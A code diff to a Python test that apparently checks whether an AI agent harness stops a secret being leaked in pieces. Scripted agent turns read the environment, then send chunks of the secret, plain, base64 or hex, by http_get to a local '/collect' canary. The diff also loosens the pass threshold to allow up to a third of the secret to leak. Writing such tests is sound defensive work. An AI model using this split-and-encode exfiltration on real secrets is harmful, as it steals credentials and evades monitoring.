@@ -7,6 +7,7 @@ from __future__ import annotations
 
 import base64
 import codecs
+import re
 from collections.abc import Sequence
 from pathlib import Path
 from typing import Any
@@ -127,21 +128,33 @@ def test_secret_in_the_query_never_leaves(
         assert any("/collect" in h for h in server.hits)
 
 
-def test_a_secret_split_over_several_requests_is_caught(server: Canary, workspace: Path) -> None:
+@pytest.mark.parametrize(
+    "size, encode",
+    [(4, "plain"), (5, "plain"), (6, "plain"), (8, "plain"), (5, "base64"), (6, "hex")],
+)
+def test_a_secret_split_over_several_requests_is_caught(
+    server: Canary, workspace: Path, size: int, encode: str
+) -> None:
     base = f"http://localhost:{server.port}/collect?part="
-    chunks = [SECRET[i : i + 5] for i in range(0, len(SECRET), 5)]
+    chunks = [SECRET[i : i + size] for i in range(0, len(SECRET), size)]
+    if encode == "base64":
+        chunks = [base64.b64encode(c.encode()).decode() for c in chunks]
+    elif encode == "hex":
+        chunks = [c.encode().hex() for c in chunks]
     turns = [_read_env(), *[call("http_get", url=base + c) for c in chunks]]
-    out = run(
-        turns,
-        [*files(workspace), *_web(server.port)],
-        Policy(allow_hosts=["localhost"]),
-        "Tidy up.",
-    )
-    sent = "".join(h.split("part=")[1] for h in server.hits if "part=" in h)
-    # at most one piece (under 8 characters) goes before the pieces are recognised
-    held = len(sent) <= 7 and any("pieces of a secret" in r.content for r in out)
+    tools = [*files(workspace), *_web(server.port)]
+    out = run(turns, tools, Policy(allow_hosts=["localhost"]), "Tidy up.")
+    went = [h.split("part=")[1] for h in server.hits if "part=" in h]
+    if encode == "base64":
+        went = [base64.b64decode(w).decode() for w in went]
+    elif encode == "hex":
+        went = [bytes.fromhex(w).decode() for w in went]
+    leaked = sum(len(re.sub(r"[^0-9a-z]", "", w)) for w in went)
+    # a configured host may receive short pieces (at most a third of the secret) before the
+    # pieces are recognised and the rest is refused
+    held = 3 * leaked <= len(SECRET) and any("piece" in r.content for r in out)
     _tally("a secret split across calls", held)
-    assert held, (sent, [r.content for r in out])
+    assert held, (went, [r.content for r in out])
 
 
 # -- DNS names, redirects, odd URLs ------------------------------------------------------------
